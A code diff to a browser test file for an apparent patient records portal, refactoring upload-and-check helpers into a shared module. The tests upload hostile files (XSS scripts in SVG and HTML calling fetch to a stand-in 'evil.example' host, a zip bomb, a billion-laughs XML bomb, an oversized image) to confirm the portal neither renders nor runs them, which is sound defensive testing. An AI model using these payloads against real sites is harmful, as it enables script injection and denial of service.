@@ -4,14 +4,13 @@ import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
 import { afterAll, beforeAll, expect, inject, test } from 'vitest'
 import type { Person } from './browser'
 import { Cast, desktop } from './cast'
-
-interface Hostile { name: string; mimeType: string; buffer: Buffer }
+import { keep, openNewest, wasNotHarmed, type Kept } from './files'
 
 const elsewhere = 'http://evil.example'
 const script = `globalThis.harmed = 1; fetch('${elsewhere}')`
 
 // What a script in a record could do is remembered under `harmed`, and by what leaves for elsewhere.
-const neverShown: Hostile[] = [
+const neverShown: Kept[] = [
   aText('script.svg', 'image/svg+xml',
     `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`),
   aText('page.html', 'text/html', `<script>${script}</script><img src="${elsewhere}/x" onerror="${script}">`),
@@ -20,7 +19,7 @@ const neverShown: Hostile[] = [
   { name: 'bomb.zip', mimeType: 'application/zip', buffer: deflateRawSync(Buffer.alloc(64 * 1024 * 1024)) },
 ]
 
-const shownAsText: Hostile[] = [
+const shownAsText: Kept[] = [
   aText('note.txt', 'text/plain', `Read on <script>${script}</script> <img src=x onerror="${script}">`),
   aText('narrative.json', 'application/fhir+json', JSON.stringify({
     resourceType: 'Observation',
@@ -52,30 +51,30 @@ afterAll(() => cast?.end())
 
 // spec portal 8.4
 test.each(neverShown)('$name is kept sealed, and only handed over as a file that no browser runs', async hostile => {
-  await write(hostile)
-  const record = await openNewest()
+  await keep(patient, hostile)
+  const record = await openNewest(patient)
   await record.getByText('It is not shown here').waitFor()
   const download = patient.page.waitForEvent('download')
   await record.getByRole('button', { name: 'Save as a file' }).click()
   expect((await download).suggestedFilename()).toMatch(/\.(bin|zip)$/)
-  await didNoHarm()
+  await wasNotHarmed(patient)
 })
 
 // spec portal 8.4
 test.each(shownAsText)('$name is shown as words, and nothing of it runs', async hostile => {
-  await write(hostile)
-  const record = await openNewest()
+  await keep(patient, hostile)
+  const record = await openNewest(patient)
   await record.getByText('Unchanged since block').waitFor()
-  await didNoHarm()
+  await wasNotHarmed(patient)
 })
 
 // spec portal 8.4, 9.1
 test('an image that is none, or is larger than a screen could ever show, leaves the page alive', async () => {
   const bomb = { name: 'bomb.png', mimeType: 'image/png', buffer: anImageOf(30_000, 30_000) }
   for (const [hostile, said] of [[notAnImage, 'This is no image'], [bomb, 'has 30000 × 30000 points']] as const) {
-    await write(hostile)
-    await (await openNewest()).getByText(said).waitFor()
-    await didNoHarm()
+    await keep(patient, hostile)
+    await (await openNewest(patient)).getByText(said).waitFor()
+    await wasNotHarmed(patient)
     await patient.isAccessible()
   }
 })
@@ -99,7 +98,7 @@ test('no page broke its policy, and nothing left for elsewhere', () => {
   expect(patient.sent.filter(sent => sent.startsWith(elsewhere))).toEqual([])
 })
 
-function aText(name: string, mimeType: string, words: string): Hostile {
+function aText(name: string, mimeType: string, words: string): Kept {
   return { name, mimeType, buffer: Buffer.from(words) }
 }
 
@@ -108,28 +107,6 @@ function aThousandMillionLaughs(): string {
   const levels = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`)
   return `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">${levels.join('')}]>`
     + '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>&l9;</title></ClinicalDocument>'
-}
-
-async function write(hostile: Hostile): Promise<void> {
-  const { page } = patient
-  await patient.goTo('Write a record')
-  await page.getByLabel('Category').selectOption({ label: 'Imaging' })
-  await page.locator('input[type=file]').setInputFiles(hostile)
-  await page.getByRole('button', { name: 'Seal and store' }).click()
-  await page.getByText('Stored, and final in block').waitFor()
-}
-
-async function openNewest() {
-  await patient.goTo('Records')
-  await patient.page.getByRole('button', { name: 'Imaging' }).first().click()
-  const record = patient.page.getByRole('article')
-  await record.waitFor()
-  return record
-}
-
-async function didNoHarm(): Promise<void> {
-  expect(await patient.page.evaluate(() => 'harmed' in globalThis)).toBe(false)
-  await patient.page.getByRole('heading', { level: 1, name: 'Records' }).waitFor()
 }
 
 // One bit a pixel, all of them black: little to send, and a great deal to draw.
